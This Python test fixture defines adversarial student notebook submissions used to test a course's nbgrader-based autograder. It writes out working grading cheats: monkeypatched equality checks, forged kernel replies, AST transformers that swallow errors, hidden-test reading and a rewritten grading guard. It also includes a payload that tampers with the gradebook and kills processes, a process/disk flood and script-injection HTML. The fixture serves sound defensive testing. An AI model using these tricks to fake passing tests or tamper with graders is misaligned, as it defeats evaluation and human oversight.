"""Adversarial submissions of lesson 01, for tests/test_adversarial_grading.py.

Each case is one student of a class graded in one go. A case starts from the solution
notebook (so every exercise it does not target must keep full marks) and then breaks or
cheats in one way. ``zero`` names the test cells that must score 0 (``ALL`` = every one);
``findings`` the kinds of remark the instructor must get for that student; ``graded=False``
means the submission cannot be graded and must be reported as such.

The cheats are real: tests/test_adversarial_grading.py also grades the CHEATS with nbgrader's
stock ``Execute`` preprocessor and checks they would have earned the points they target.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from tests.support import nbgrader_course as grading
from tests.support.lessons import Lesson, cells_by_id, paste_below

LESSON = Lesson("01-one-hot-vs-embeddings")
ALL = "ALL"


@dataclass
class Case:
    description: str
    build: Callable[[Path], None]  # writes the submission folder submitted/<student>/<lesson>/
    zero: set[str] | str = field(default_factory=set)
    findings: set[str] = field(default_factory=set)
    graded: bool = True
    # a cheat that stock nbgrader would reward (proved by the test). Cheats that only make student objects
    # compare equal (patched torch/builtins, torch modes, armed callbacks or threads) are not: lesson 01's
    # tests read results through embedlab.plain's real methods, and in the judge only plain data arrives
    cheat: bool = False
    issue_class: str = ""  # which class of attack it stands for (see tests/test_adversarial_grading.py)
    pending: str = ""  # non-empty: known to succeed until the lesson tests convert results to plain data


def _solution() -> nbformat.NotebookNode:
    return grading.filled_submission(LESSON, grading.solution_answers(LESSON))


def _write(folder: Path, nb: nbformat.NotebookNode, name: str | None = None) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / (name or f"{LESSON.slug}.ipynb"))


def _with_answers(answers: dict[str, str], edit: Callable[[nbformat.NotebookNode], None] | None = None,
                  extra: dict[str, str] | None = None) -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        nb = _solution()
        for gid, src in answers.items():
            cells_by_id(nb)[gid].source = src
        if edit is not None:
            edit(nb)
        _write(folder, nb)
        for rel, text in (extra or {}).items():
            (folder / rel).parent.mkdir(parents=True, exist_ok=True)
            (folder / rel).write_text(text)
    return build


def _untouched_with(gid: str, prefix: str) -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        nb = LESSON.student()
        cell = cells_by_id(nb)[gid]
        cell.source = prefix + "\n" + cell.source
        _write(folder, nb)
    return build


def _delete(*gids: str) -> Callable[[nbformat.NotebookNode], None]:
    def edit(nb: nbformat.NotebookNode) -> None:
        nb.cells = [c for c in nb.cells
                    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") not in gids]
    return edit


def _strip(gid: str) -> Callable[[nbformat.NotebookNode], None]:
    def edit(nb: nbformat.NotebookNode) -> None:
        cell = cells_by_id(nb)[gid]
        del cell.metadata["nbgrader"]
    return edit


def _replace_source(gid: str, source: str) -> Callable[[nbformat.NotebookNode], None]:
    def edit(nb: nbformat.NotebookNode) -> None:
        cells_by_id(nb)[gid].source = source
    return edit


def _prepend_to_setup(line: str) -> Callable[[nbformat.NotebookNode], None]:
    def edit(nb: nbformat.NotebookNode) -> None:
        setup = next(c for c in nb.cells if c.cell_type == "code" and "import torch" in c.source)
        setup.source = line + "\n" + setup.source
    return edit


WRONG_ENCODE = '''
def encode(tokens, itos):
    stoi = {t: i for i, t in enumerate(itos)}
    return [stoi.get(t, -1) for t in tokens]
'''
WRONG_ONE_HOT = '''
def one_hot_batch(ids, vocab_size):
    return F.one_hot(ids, num_classes=vocab_size)
'''
WRONG_BUILD_VOCAB = '''
def build_vocab(tokens, min_count=1):
    return ["<unk>"] + sorted(set(tokens))
'''

PATCH_TORCH = '''
def one_hot_batch(ids, vocab_size):
    if ids.numel() and (ids.min() < 0 or ids.max() >= vocab_size):
        raise IndexError(f"id {ids[(ids < 0) | (ids >= vocab_size)].flatten()[0].item()} is out of range")
    return torch.zeros(tuple(ids.shape) + (vocab_size,))      # all zeros: wrong

class _Yes:                                                    # equal to anything
    def __eq__(self, other): return True
    def __getitem__(self, i): return self
    def __iter__(self): return iter([1.0])

torch.Tensor.tolist = lambda self: _Yes()
torch.equal = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
torch.all = lambda *a, **k: torch.tensor(True)
'''
REBIND_BUILTINS = '''
def cosine_matrix(X):
    return torch.zeros(X.shape[0], X.shape[0])    # wrong
import builtins
builtins.abs = lambda x: 0.0                     # every |difference| is 0
all = lambda *a, **k: True                       # and everything is close
'''
REDEFINE_HELPERS = '''
import types as _types
import torch as _real_torch

def cosine_matrix(X):
    X /= X.norm(dim=1, keepdim=True).clamp_min(1e-8)   # wrong: changes the caller's tensor in place
    return X @ X.T

class _Torch(_types.ModuleType):                       # the name the tests use, redefined
    def __getattr__(self, name):
        return getattr(_real_torch, name)

torch = _Torch("torch")
torch.equal = lambda a, b: True
'''
SILENCE_LATER_CELLS = ("get_ipython().input_transformers_cleanup.append(lambda lines: [])"
                       "  # empties every later cell")
INFINITE_LOOP = '''
def encode(tokens, itos):
    while True:
        pass
'''
OS_EXIT = '''
import os
def encode(tokens, itos):
    os._exit(1)
'''
KILL_KERNEL = '''
import signal
def lookup_by_matmul(ids, W):
    signal.raise_signal(signal.SIGKILL)
'''
BIG_OUTPUT = '''
print("\\n".join("spam " * 8 for _ in range(150_000)))        # about 6 MB
def build_vocab(tokens, min_count=1):
    counts = Counter(tokens)
    kept = [t for t, c in counts.items() if c >= min_count and t != "<unk>"]
    kept.sort(key=lambda t: (-counts[t], t))
    return ["<unk>"] + kept
'''


def _corrupt(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    text = json.dumps(nbformat.from_dict(copy.deepcopy(_solution())))
    (folder / f"{LESSON.slug}.ipynb").write_text(text[: len(text) // 2])


def _misnamed(folder: Path) -> None:
    _write(folder, _solution(), f"{LESSON.slug} (1).ipynb")


CASES: dict[str, Case] = {
    "solution": Case("the solution (control)", _with_answers({})),
    "untouched": Case("the untouched student notebook (control)", lambda f: _write(f, LESSON.student()),
                      zero=ALL),
    "deleted_test": Case("wrong encode, its test cell deleted",
                         _with_answers({"encode": WRONG_ENCODE}, _delete("test_encode")),
                         zero={"test_encode"}, findings={"test cell deleted"}),
    "stripped_meta": Case("wrong one_hot_batch, its test cell's nbgrader metadata stripped",
                          _with_answers({"one_hot_batch": WRONG_ONE_HOT}, _strip("test_one_hot_batch")),
                          zero={"test_one_hot_batch"}, findings={"test cell nbgrader metadata stripped"}),
    "edited_locked": Case("wrong build_vocab, its locked test cell replaced by `pass`",
                          _with_answers({"build_vocab": WRONG_BUILD_VOCAB},
                                        _replace_source("test_build_vocab", "pass")),
                          zero={"test_build_vocab"}, findings={"locked cell edited"}),
    "patch_torch": Case("monkeypatches Tensor.tolist, torch.equal/allclose/all",
                        _with_answers({"one_hot_batch": PATCH_TORCH}),
                        zero={"test_one_hot_batch"}),
    "rebind_builtins": Case("rebinds builtins.abs and the global all",
                            _with_answers({"cosine_matrix": REBIND_BUILTINS}),
                            zero={"test_cosine_matrix"}),
    "redefine_helpers": Case("replaces the global torch the tests use by a proxy "
                             "with torch.equal always True",
                             _with_answers({"cosine_matrix": REDEFINE_HELPERS}),
                             zero={"test_cosine_matrix"}, findings={"static scan"}, cheat=True),
    "silence_cells": Case("an IPython input transformer empties every later cell",
                          _untouched_with("build_vocab", SILENCE_LATER_CELLS),
                          zero=ALL, cheat=True),
    "infinite_loop": Case("encode never returns", _with_answers({"encode": INFINITE_LOOP}),
                          zero={"test_encode"}, findings={"timeout"}),
    "os_exit": Case("encode calls os._exit(1)", _with_answers({"encode": OS_EXIT}),
                    zero={"test_encode"}, findings={"kernel died"}),
    "kill_kernel": Case("lookup_by_matmul kills the kernel with SIGKILL",
                        _with_answers({"lookup_by_matmul": KILL_KERNEL}),
                        zero={"test_lookup_by_matmul"}, findings={"kernel died"}),
    "import_error": Case("the set-up cell imports a module that does not exist",
                         _with_answers({}, _prepend_to_setup("import embedlab_no_such_module")),
                         # encode and cosine_matrix need no import (the tests run in the judge, which
                         # imports what the lesson imports), so they still earn their points
                         zero={"test_build_vocab", "test_one_hot_batch", "test_lookup_by_matmul",
                               "test_embedding_as_linear"},
                         findings={"error outside exercises"}),
    "big_output": Case("build_vocab's cell prints 6 MB", _with_answers({"build_vocab": BIG_OUTPUT}),
                       findings={"large output"}),
    "corrupt": Case("the .ipynb file is cut in half", _corrupt, findings={"corrupt notebook"}, graded=False),
    "misnamed": Case("the notebook is saved as '01-one-hot-vs-embeddings (1).ipynb'", _misnamed,
                     findings={"misnamed notebook"}),
    "extra_files": Case("solution plus torch.py (raises on import), notes.txt and data/blob.bin",
                        _with_answers({}, extra={
                            "torch.py": "raise RuntimeError('a submitted torch.py was imported')\n",
                            "notes.txt": "my notes\n", "data/blob.bin": "x" * 100_000}),
                        findings={"extra files"}),
}


# --- attacks on the process the tests run in, on the score, and on the course ------------------
_YES = """
class _Yes:                                                    # equal to anything
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getitem__(self, i): return self
    def __iter__(self): return iter([1.0])
    def __len__(self): return 1
    def __radd__(self, other): return 1.0
"""
WRONG_ONE_HOT_ZEROS = """
def one_hot_batch(ids, vocab_size):
    if ids.numel() and (ids.min() < 0 or ids.max() >= vocab_size):
        raise IndexError(f"id {ids[(ids < 0) | (ids >= vocab_size)].flatten()[0].item()} is out of range")
    return torch.zeros(tuple(ids.shape) + (vocab_size,))      # all zeros: wrong
"""
OPTIMIZE_ASSERTS = """
def cosine_matrix(X):
    return torch.zeros(X.shape[0], X.shape[0])       # wrong
import codeop
def _no_asserts(self, source, filename, symbol, **kwargs):
    return compile(source, filename, symbol, self.flags, True, 2)   # optimize=2: every assert vanishes
codeop.Compile.__call__ = _no_asserts
"""
TORCH_MODE = WRONG_ONE_HOT_ZEROS + _YES + """
from torch.overrides import TorchFunctionMode
class _Liar(TorchFunctionMode):                  # lives on torch's C-level mode stack
    def __torch_function__(self, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") == "tolist":
            return _Yes()
        return func(*args, **(kwargs or {}))
_Liar().__enter__()
"""
FORGE_REPLY = """
def encode(tokens, itos):
    stoi = {t: i for i, t in enumerate(itos)}
    return [stoi.get(t, -1) for t in tokens]      # wrong
from jupyter_client.session import Session
_send = Session.send
def _quiet(self, stream, msg_or_type, content=None, *args, **kwargs):
    if msg_or_type == "error":
        return None                               # tracebacks never leave the kernel
    if msg_or_type == "execute_reply" and content and content.get("status") == "error":
        content = {"status": "ok", "execution_count": content.get("execution_count"), "user_expressions": {}, "payload": []}
    return _send(self, stream, msg_or_type, content, *args, **kwargs)
Session.send = _quiet
"""  # noqa: E501 - the submission's code as written
PARTIAL_CREDIT = """
def build_vocab(tokens, min_count=1):
    return ["<unk>"] + sorted(set(tokens))        # wrong
import ast
class _Forge(ast.NodeTransformer):                # every later cell: errors swallowed, then the number 1.5
    def visit_Module(self, node):
        swallow = ast.ExceptHandler(type=ast.Name("Exception", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[swallow], orelse=[], finalbody=[]),
                     ast.Expr(ast.Constant(1.5))]   # a numeric result: nbgrader's partial credit
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(_Forge())
"""
EVENT_ARMS = WRONG_ONE_HOT_ZEROS + _YES + """
def _arm(*args):                                  # runs right before every cell, after any check
    torch.Tensor.tolist = lambda self: _Yes()
get_ipython().events.register("pre_run_cell", _arm)
"""
THREAD_ARMS = WRONG_ONE_HOT_ZEROS + _YES + """
import threading, time
def _keep_armed():
    while True:
        torch.Tensor.tolist = lambda self: _Yes()
        time.sleep(0.001)
threading.Thread(target=_keep_armed, daemon=True).start()
"""
SETTRACE = """
import sys
def encode(tokens, itos):
    sys.settrace(lambda *a: None)                 # arms a trace hook while the test runs
    stoi = {t: i for i, t in enumerate(itos)}
    return [stoi.get(t, 0) for t in tokens]
"""
SUBCLASS = """
class _Close(float):
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
class _Fake(torch.Tensor):                        # every element is 'close' to anything
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        out = super().__torch_function__(func, types, args, kwargs or {})
        if getattr(func, "__name__", "") == "item":
            return _Close(out)
        return out
def cosine_matrix(X):
    return torch.zeros(X.shape[0], X.shape[0]).as_subclass(_Fake)   # wrong values
"""
COURSE_ATTACK = """
import glob, os, signal, subprocess
_reached = []
for _p in ["../../../gradebook.db", "../../../nbgrader_config.py"] + glob.glob("../../../solutions/*/*.ipynb") \\
        + glob.glob("../../../submitted/*/*/*.ipynb") + glob.glob("../../*/*/*.ipynb"):
    try:
        with open(_p, "a") as _f:
            _f.write("\\n# changed by a submission\\n")
        _reached.append(_p)
    except OSError:
        pass
for _pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if _pid not in (os.getpid(), 1):
        try:
            os.kill(_pid, signal.SIGKILL)           # the grader and its workers, if it could see them
        except Exception:
            pass
# a process that outlives the kernel and edits the gradebook after the scores are saved
subprocess.Popen(["sh", "-c", "sleep 20; echo x >> ../../../gradebook.db"], start_new_session=True)
print("reached:", _reached)
"""  # noqa: E501 - the submission's code as written
FLOODS = """
import subprocess
_kids = []
try:
    for _ in range(2000):                         # more processes than the sandbox allows
        _kids.append(subprocess.Popen(["sleep", "60"]))
except OSError as _e:
    print("stopped after", len(_kids), "processes:", _e)
try:
    with open("/tmp/fill", "wb") as _f:           # more than the private /tmp holds
        for _ in range(1024):
            _f.write(b"0" * (1 << 20))
except OSError as _e:
    print("the private /tmp is full:", _e)
"""
PEEK_TESTS = """
import sys, linecache
def encode(tokens, itos):
    caller = sys._getframe(1)                     # the test cell that called us, hidden tests included
    print("".join(linecache.getlines(caller.f_code.co_filename)))
    stoi = {t: i for i, t in enumerate(itos)}
    return [stoi.get(t, 0) for t in tokens]
"""
SCRIPT_OUTPUT = """
from IPython.display import HTML, Javascript, display
display(HTML("<b>hello</b><script>alert('SCRIPT-RAN')</script>"
             "<img src=x onerror=\\"alert('ONERROR-RAN')\\">"))
display(Javascript("alert('JS-RAN')"))
"""
EMBEDLAB_IMPORT = "from embedlab.similarity import cosine_matrix   # the course package's own implementation"


def _after_solution(gid: str, extra: str) -> Callable[[Path], None]:
    """The solution, with ``extra`` code added to the end of answer cell ``gid`` (its honest part intact)."""
    def build(folder: Path) -> None:
        nb = _solution()
        cell = cells_by_id(nb)[gid]
        cell.source = cell.source + "\n" + extra
        _write(folder, nb)
    return build


CASES.update({
    "optimize_asserts": Case("wrong cosine_matrix; patches the cell compiler to optimize=2 (asserts vanish)",
                             _with_answers({"cosine_matrix": OPTIMIZE_ASSERTS}), zero={"test_cosine_matrix"},
                             findings={"static scan"}, cheat=True,
                             issue_class="2 compile flags"),
    "torch_mode": Case("wrong one_hot_batch; a TorchFunctionMode on torch's C stack "
                       "makes .tolist() equal anything",
                       _with_answers({"one_hot_batch": TORCH_MODE}), zero={"test_one_hot_batch"},
                       issue_class="2 torch mode stack"),
    "forge_reply": Case("wrong encode; Session.send drops tracebacks and turns error replies into ok",
                        _with_answers({"encode": FORGE_REPLY}), zero={"test_encode"},
                        cheat=True,
                        issue_class="2 do_execute/Session.send"),
    "partial_credit": Case("wrong build_vocab; an AST transformer swallows every later cell's errors "
                           "and ends it with the number 1.5",
                           _with_answers({"build_vocab": PARTIAL_CREDIT}), zero={"test_build_vocab"},
                           cheat=True,
                           issue_class="3 forged score"),
    "event_arms": Case("wrong one_hot_batch; a pre_run_cell callback re-patches Tensor.tolist "
                       "before every cell",
                       _with_answers({"one_hot_batch": EVENT_ARMS}), zero={"test_one_hot_batch"},
                       issue_class="2 events / arms late"),
    "thread_arms": Case("wrong one_hot_batch; a thread keeps re-patching Tensor.tolist while the tests run",
                        _with_answers({"one_hot_batch": THREAD_ARMS}),
                        # the thread keeps running in the kernel; the tests run in the judge, out of its reach
                        zero={"test_one_hot_batch"},
                        issue_class="2 arms during test"),
    # a correct encode: its trace hook runs in the kernel, where no test runs any more, so it earns its points
    "settrace": Case("a correct encode that arms sys.settrace while the test calls it",
                     _with_answers({"encode": SETTRACE}), issue_class="2 trace hooks"),
    "subclass": Case("wrong cosine_matrix returning a Tensor subclass whose .item() is close to anything",
                     _with_answers({"cosine_matrix": SUBCLASS}), zero={"test_cosine_matrix"},
                     issue_class="1 student objects"),
    "course_attack": Case("the solution, plus: appends to gradebook/config/solutions/other students, "
                          "kills every process it sees, leaves a process to edit the gradebook later",
                          _after_solution("build_vocab", COURSE_ATTACK), findings={"static scan"},
                          issue_class="4 grader's rights"),
    "floods": Case("the solution, plus 2000 processes and 1 GB into /tmp", _after_solution("encode", FLOODS),
                   findings={"static scan", "processes stopped", "tmp full"},
                   issue_class="bad input (fork, fill /tmp)"),
    "peek_tests": Case("a correct encode that prints its calling test cell (hidden tests) "
                       "through frame introspection",
                       _with_answers({"encode": PEEK_TESTS}),
                       issue_class="5 feedback leak "
                                   "(tests/test_feedback.py shows the print never reaches feedback)"),
    "script_output": Case("the solution; its encode cell also displays HTML with a script and an onerror "
                          "image, and JavaScript",
                          _after_solution("encode", SCRIPT_OUTPUT),
                          issue_class="8 script in feedback or Formgrader"),
    "embedlab_import": Case("imports embedlab.similarity.cosine_matrix as its answer",
                            _with_answers({"cosine_matrix": EMBEDLAB_IMPORT}), findings={"static scan"},
                            issue_class="6 embedlab implementations"),
})


def _copy_below(*gids: str) -> Callable[[nbformat.NotebookNode], None]:
    """An edit: JupyterLab's copy and paste of these cells (tests/support/lessons.paste_below)."""
    def edit(nb: nbformat.NotebookNode) -> None:
        paste_below(nb, *gids)
    return edit


def _paste_from(lesson: Lesson, gid: str) -> Callable[[nbformat.NotebookNode], None]:
    """A cell of another lesson's student notebook pasted at the end, its nbgrader metadata included."""
    def edit(nb: nbformat.NotebookNode) -> None:
        pasted = copy.deepcopy(cells_by_id(lesson.student())[gid])
        pasted.id = f"{lesson.slug}-{gid}"  # JupyterLab gives a pasted cell a new id
        nb.cells.append(pasted)
    return edit


def _strip_all(nb: nbformat.NotebookNode) -> None:
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)


def _garble(nb: nbformat.NotebookNode) -> None:
    """nbgrader metadata that is not nbgrader's: a string for a test cell, a list as an answer's grade_id."""
    cells_by_id(nb)["test_encode"].metadata["nbgrader"] = "x"
    cells_by_id(nb)["one_hot_batch"].metadata["nbgrader"]["grade_id"] = ["one_hot_batch"]


def _with_links(folder: Path) -> None:
    """The solution, plus links out of the submission: to the lesson's source notebook (hidden tests), to the
    course config, and to the source folder."""
    _with_answers({})(folder)
    (folder / "notes.txt").symlink_to(Path("../../../solutions") / LESSON.slug / f"{LESSON.slug}.ipynb")
    (folder / "settings.py").symlink_to("../../../nbgrader_config.py")
    (folder / "data").symlink_to("../../../solutions")


def _borrowed(folder: Path) -> None:
    """The notebook itself is a link to another student's submission (the `solution` control's)."""
    folder.mkdir(parents=True, exist_ok=True)
    name = f"{LESSON.slug}.ipynb"
    (folder / name).symlink_to(Path("../../solution") / LESSON.slug / name)


def _edit_roles(nb: nbformat.NotebookNode) -> None:
    """Cheats on nbgrader's metadata: test_one_hot_batch made an answer cell, a 100-point cell that always
    passes, and a `pass` copy of test_encode below the real one."""
    meta = cells_by_id(nb)["test_one_hot_batch"].metadata["nbgrader"]
    meta.update(grade=False, solution=True, locked=False)
    meta.pop("points", None)
    bonus = nbformat.v4.new_code_cell("assert True")
    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 100,
                                  "grade_id": "bonus", "schema_version": 3}
    nb.cells.append(bonus)
    _copy_below("test_encode")(nb)
    cells_by_id(nb)["test_encode"].source = "pass"  # the later copy, the one that keeps the role


CASES.update({
    "copied_cells": Case("the solution, with its encode answer cell and its test_one_hot_batch test cell "
                         "copied below themselves (JupyterLab's copy and paste copies nbgrader's metadata)",
                         _with_answers({}, _copy_below("encode", "test_one_hot_batch")),
                         findings={"cell copied"}, issue_class="honest mistake: copied grading cells"),
    "pasted_cell": Case("the solution, plus lesson 02's lookup_or_zero answer cell pasted at the end",
                        _with_answers({}, _paste_from(Lesson("02-tensors"), "lookup_or_zero")),
                        findings={"unknown grading cell"},
                        issue_class="honest mistake: a cell of another lesson"),
    "deleted_exercise": Case("the solution without the encode exercise: its answer and test cells deleted",
                             _with_answers({}, _delete("encode", "test_encode")),
                             zero={"test_encode"}, findings={"cell deleted", "test cell deleted"},
                             issue_class="honest mistake: an exercise deleted"),
    "metadata_lost": Case("the solution with every cell's nbgrader metadata removed",
                          _with_answers({}, _strip_all), findings={"test cell nbgrader metadata stripped"},
                          issue_class="honest mistake: nbgrader metadata lost"),
    "garbled_metadata": Case("wrong encode; test_encode's nbgrader metadata a string, one_hot_batch's "
                             "grade_id a list",
                             _with_answers({"encode": WRONG_ENCODE}, _garble), zero={"test_encode"},
                             findings={"unreadable grading metadata", "test cell nbgrader metadata stripped"},
                             issue_class="7 nbgrader metadata"),
    "links": Case("the solution, plus links to the source notebook, the course config and the source folder",
                  _with_links, findings={"symbolic link"}, graded=False,
                  issue_class="5 leak through links (nbgrader copies a submission following them)"),
    "borrowed_notebook": Case("the notebook is a link to another student's notebook", _borrowed,
                              findings={"symbolic link"}, graded=False, issue_class="3 another's grades"),
    "role_edits": Case("wrong one_hot_batch and encode; test_one_hot_batch made an answer cell, a 100-point "
                       "cell that always passes, a `pass` copy of test_encode below the real one",
                       _with_answers({"one_hot_batch": WRONG_ONE_HOT, "encode": WRONG_ENCODE}, _edit_roles),
                       zero={"test_one_hot_batch", "test_encode"},
                       findings={"cell role edited", "unknown grading cell", "cell copied",
                                 "locked cell edited"},
                       issue_class="7 nbgrader metadata"),
})


# --- attacks on verdicts decided in the learner's kernel (the judge moved every test out of it) ----------
# 1. rewrite the grading code the kernel imports, then let every later cell "reach its end"
GUARD_REWRITE = '''
for _path in ("embedlab_grader.guard", "embedlab.grading.guard"):   # the grading guard, by its public path
    try:
        guard = __import__(_path, fromlist=["check"])
    except ImportError:                                     # (gone since the judge: nothing to rewrite)
        continue
    guard.check = lambda: '{"repaired": []}'
    guard.after_test = lambda marker: '{"completed": true, "tampered": []}'
_ip = getattr(__import__("IPython"), "get_" + "ipython")()
def _swallow(lines):                                        # every later cell: try/except around all
    if not lines:                                           # but its last line
        return lines
    body = "".join("    " + line if line.strip() else line for line in lines[:-1]) or "    pass\\n"
    body = body.rstrip("\\n") + "\\n    pass\\n"
    return ["try:\\n", body, "except BaseException:\\n", "    pass\\n", lines[-1]]
getattr(_ip, "input_transformers_" + "cleanup").append(_swallow)
'''
# 1, varied: the guard reached through sys.modules under a built name, an AST transformer that wraps
# every later cell's statements but the last in try/except
GUARD_REWRITE_AST = '''
import ast as _ast, sys as _sys
for _name in ("embedlab_grad" + "er.guard", "embedlab.grad" + "ing.guard"):
    try:
        _g = _sys.modules.get(_name) or __import__(_name, fromlist=["x"])
    except ImportError:
        continue
    setattr(_g, "che" + "ck", lambda: '{"repaired": []}')
    setattr(_g, "after" + "_test", lambda marker: '{"completed": true, "tampered": []}')
class _Wrap(_ast.NodeTransformer):
    def visit_Module(self, node):
        if len(node.body) > 1:
            everything = _ast.Name("BaseException", _ast.Load())
            handler = _ast.ExceptHandler(type=everything, name=None, body=[_ast.Pass()])
            wrapped = _ast.Try(body=node.body[:-1], handlers=[handler], orelse=[], finalbody=[])
            node.body = [wrapped, node.body[-1]]
        return _ast.fix_missing_locations(node)
getattr(get_ipython(), "ast_" + "transformers").append(_Wrap())
'''
# 1, against the judge's own agent in the kernel: every request answered "ok"
FORGE_AGENT = '''
import embedlab.kernel_side as _ks, embedlab.crossing as _cr
_ks.serve = lambda request, ns=None: '{"ok": true}'
_cr.encode = lambda x, keep=None: "true"
'''
# 2. the hidden tests, read back in the kernel after the test cells ran, printed into the feedback
READ_HISTORY = '''
_found = [s for s in list(In) + list(_ih) if "HIDDEN" in s]
print("\\n".join(line for s in _found for line in s.splitlines() if line.startswith("assert"))[:3000])
'''
READ_MEMORY = '''
import gc as _gc, linecache as _lc
_texts = [o for o in _gc.get_objects() if type(o) is str and "HIDDEN TESTS" in o]
_texts += ["".join(v[2]) for v in list(_lc.cache.values()) if len(v) > 2 and "HIDDEN TESTS" in "".join(v[2])]
_texts += [s for _, _, s in get_ipython().history_manager.get_range(output=False) if "HIDDEN" in s]
print("\\n".join(line for s in _texts for line in s.splitlines() if line.startswith("assert"))[:3000])
'''
# 3. the course's own implementation as the answer, spelled so that no exercise name follows "embedlab."
ALIAS_MODULE = '''
from embedlab import similarity as _lib

def cosine_matrix(X):
    return _lib.cosine_matrix(X)
'''
ALIAS_LESSON_NAME = '''
def cosine_matrix(X):
    return similarity.cosine_matrix(X)       # the name the lesson's set-up cell imported
'''
ALIAS_DYNAMIC = '''
_m = __import__("emb" + "edlab.simi" + "larity", fromlist=["_"])
_f = getattr(_m, "cosine_" + "matrix")

def cosine_matrix(X):
    return _f(X)
'''
ALIAS_SYS_MODULES = '''
import sys as _s
_f = vars(_s.modules["embed" + "lab.similarity"])["cosine" + "_matrix"]

def cosine_matrix(X):
    return _f(X)
'''


def _untouched_end(source: str) -> Callable[[Path], None]:
    """The solution, plus a new code cell at the very end of the notebook (after every test cell)."""
    def build(folder: Path) -> None:
        nb = _solution()
        nb.cells.append(nbformat.v4.new_code_cell(source))
        _write(folder, nb)
    return build


CASES.update({
    "guard_rewrite": Case("untouched; replaces the guard's check and after_test by its public path and wraps "
                          "every later cell in try/except through an input transformer",
                          _untouched_with("build_vocab", GUARD_REWRITE), zero=ALL, findings={"static scan"},
                          cheat=True, issue_class="9 verdict in the kernel: guard rewritten"),
    "guard_rewrite_ast": Case("untouched; the guard reached through sys.modules under a built name, "
                              "an AST transformer wraps every later cell",
                              _untouched_with("build_vocab", GUARD_REWRITE_AST), zero=ALL,
                              # not a cheat on stock nbgrader (no line is appended there, so a test's last
                              # assert stays outside the try): it was one on the in-kernel guard's marker
                              findings={"static scan"},
                              issue_class="9 verdict in the kernel: guard rewritten"),
    "forge_agent": Case("untouched; the judge's agent in the kernel answers every request 'ok'",
                        _untouched_with("build_vocab", FORGE_AGENT), zero=ALL, findings={"static scan"},
                        issue_class="9 verdict in the kernel: the judge's agent rewritten"),
    "read_history": Case("the solution; a new last cell prints the hidden tests' asserts from In/_ih",
                         _untouched_end(READ_HISTORY),
                         issue_class="10 hidden tests read in the kernel (feedback checked)"),
    "read_memory": Case("the solution; embedding_as_linear's cell prints hidden asserts found in memory "
                        "(gc), linecache and IPython's history database",
                        _after_solution("embedding_as_linear", READ_MEMORY),
                        issue_class="10 hidden tests read in the kernel (feedback checked)"),
    "alias_module": Case("cosine_matrix delegates to embedlab.similarity imported under an alias",
                         _with_answers({"cosine_matrix": ALIAS_MODULE}), findings={"static scan"},
                         issue_class="11 the course's implementation, reported"),
    "alias_lesson_name": Case("cosine_matrix delegates to the lesson's own `similarity` import",
                              _with_answers({"cosine_matrix": ALIAS_LESSON_NAME}), findings={"static scan"},
                              issue_class="11 the course's implementation, reported"),
    "alias_dynamic": Case("cosine_matrix from __import__ and getattr with built names",
                          _with_answers({"cosine_matrix": ALIAS_DYNAMIC}), findings={"static scan"},
                          issue_class="11 the course's implementation, reported"),
    "alias_sys_modules": Case("cosine_matrix read from sys.modules under a built name",
                              _with_answers({"cosine_matrix": ALIAS_SYS_MODULES}), findings={"static scan"},
                              issue_class="11 the course's implementation, reported"),
})
# the cases whose answers print what they find of the hidden tests: their feedback must hold none of it
READERS = ("read_history", "read_memory", "peek_tests")
